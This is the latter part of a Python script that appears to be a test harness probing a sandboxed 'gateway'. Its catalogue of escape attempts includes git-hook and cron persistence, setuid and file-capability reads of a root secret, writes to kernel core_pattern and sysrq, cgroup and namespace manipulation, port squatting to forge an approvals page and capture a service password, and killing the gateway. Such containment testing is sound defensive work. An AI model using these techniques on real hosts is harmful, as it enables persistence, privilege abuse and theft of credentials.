    return each(put(P["repo"] + "/.git/config"), put(P["repo"] + "/.git/modules/part/config"), replace)


@attack("stay-git-common", "has git read its configuration from another folder, by a file that git looks for")
def stay_git_common():
    os.makedirs(P["work"] + "/common/objects", exist_ok=True)
    write(P["work"] + "/common/config", "\n# EFFECT:stay-git-common\n")
    return write(P["repo"] + "/.git/commondir", "../app/common\n")


writes("stay-git-hook", "adds a hook that the user's next commit runs", lambda: P["repo"] + "/.git/hooks/pre-commit")


@attack("stay-cron", "adds a job to the user's table")
def stay_cron():
    return write(P["cron"], "* * * * * true # EFFECT:stay-cron\n")


@attack("own-binary", "replaces the gateway's own program")
def own_binary():
    new = P["valetkey"] + ".new"
    write(new, "EFFECT:own-binary\n")
    os.rename(new, P["valetkey_spare"])
    return "replaced"


@attack("setuid", "runs a program that is root's by its set-user-id bit")
def setuid():
    return command(P["suid_cat"], P["root_secret"])


@attack("file-capability", "runs a program that may read everything by its file capabilities")
def file_capability():
    return command(P["cap_cat"], P["root_secret"])


@attack("host-name", "renames the machine")
def host_name():
    name = b"hostile-was-here"
    return check(libc.sethostname(name, len(name)))


@attack("kernel-core-pattern", "opens the kernel's core pattern for writing")
def core_pattern():
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
    return "OPENED-FOR-WRITING"


@attack("kernel-sysrq", "opens the kernel's emergency keys for writing")
def sysrq():
    os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))
    return "OPENED-FOR-WRITING"


@attack("kernel-nested-proc", "mounts process and system tables afresh, to write into them")
def nested_proc():
    got = []
    if os.getuid() != 0:
        return "only root could write there"
    namespaces(NEWNS | 0x20000000 | NEWNET)
    child = os.fork()
    if child == 0:
        folder = P["work"] + "/fresh"
        os.makedirs(folder, exist_ok=True)
        text = each(lambda: mount("proc", folder, "proc"), lambda: os.close(os.open(folder + "/sys/kernel/core_pattern", os.O_WRONLY)) or "OPENED-FOR-WRITING")
        text += each(lambda: mount("sysfs", folder, "sysfs"), lambda: os.close(os.open(folder + "/kernel/uevent_seqnum", os.O_WRONLY)) or "OPENED-FOR-WRITING")
        open(P["work"] + "/fresh.txt", "w").write(text)
        os._exit(0)
    os.waitpid(child, 0)
    got.append(read(P["work"] + "/fresh.txt"))
    return " | ".join(got)


@attack("cgroup", "makes and freezes control groups of the user's session")
def cgroup():
    folder = P["work"] + "/cg"
    os.makedirs(folder, exist_ok=True)
    return each(
        lambda: os.mkdir(P["cgroup"] + "/escaped"),
        lambda: namespaces(NEWNS | NEWCGROUP),
        lambda: mount("cgroup2", folder, "cgroup2"),
        lambda: os.mkdir(folder + "/escaped"),
    )


@attack("limits", "takes descriptors away from another process")
def limits():
    resource.prlimit(P["limited"], resource.RLIMIT_NOFILE, (5, 5))
    return "limited"


@attack("squat-approvals", "opens the gateway's own port on the host, to forge its page")
def squat():
    with socket.socket() as link:
        link.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        link.bind(("0.0.0.0", 7801))
        link.listen()
        link.settimeout(0.1)
        # The judge looks for us meanwhile.
        end = time.monotonic() + 2.5
        while time.monotonic() < end:
            try:
                peer, _ = link.accept()
                peer.sendall(hit("squat-approvals"))
                peer.close()
            except TimeoutError:
                pass
    return "listened"


@attack("squat-service", "opens the port at which a program of the host looks for its database, and takes its password")
def squat_service():
    with socket.socket() as link:
        link.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        link.bind(("0.0.0.0", P["service_port"]))
        link.listen()
        link.settimeout(3)
        peer, _ = link.accept()
        peer.settimeout(2)
        return peer.recv(200).decode()


@attack("stop-process", "stops another process of the user")
def stop_process():
    os.kill(P["stopped"], signal.SIGSTOP)
    return "stopped"


@attack("kill-process", "kills another process of the user")
def kill_process():
    os.kill(P["killed"], signal.SIGKILL)
    return "killed"


@attack("kill-gateway", "kills the gateway and takes its port")
def kill_gateway():
    os.kill(P["gateway"], signal.SIGKILL)
    time.sleep(0.3)
    with socket.socket() as link:
        link.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        link.bind(("127.0.0.1", P["gateway_port"]))
        return "squatted"


# ---- the run ----------------------------------------------------------------------------------------------------------


def attempt(function, out):
    try:
        got = str(function())
    except BaseException as error:
        got = f"{type(error).__name__}: {error}"
    os.write(out, got.encode("utf-8", "replace")[:60_000])


def run(name, function):
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(reader)
        os.setpgid(0, 0)
        signal.alarm(SECONDS_MAX)
        attempt(function, writer)
        os._exit(0)
    os.close(writer)
    got, end = b"", time.monotonic() + SECONDS_MAX + 1
    while time.monotonic() < end:
        if select.select([reader], [], [], 0.1)[0]:
            chunk = os.read(reader, 65536)
            if not chunk:
                break
            got += chunk
    os.close(reader)
    for kill in (lambda: os.killpg(child, signal.SIGKILL), lambda: os.kill(child, signal.SIGKILL)):
        try:
            kill()
        except OSError:
            pass
    os.waitpid(child, 0)
    print(json.dumps({"attack": name, "got": got.decode("utf-8", "replace")}), flush=True)


def main():
    if "--list" in sys.argv:
        for name, tries, _ in ATTACKS:
            print(json.dumps({"attack": name, "tries": tries}))
        return
    with open(os.path.join(HERE, "plan.json")) as file:
        P.update(json.load(file))
    wanted = sys.argv[1:]
    for name, _, function in ATTACKS:
        if not wanted or name in wanted:
            run(name, function)


main()
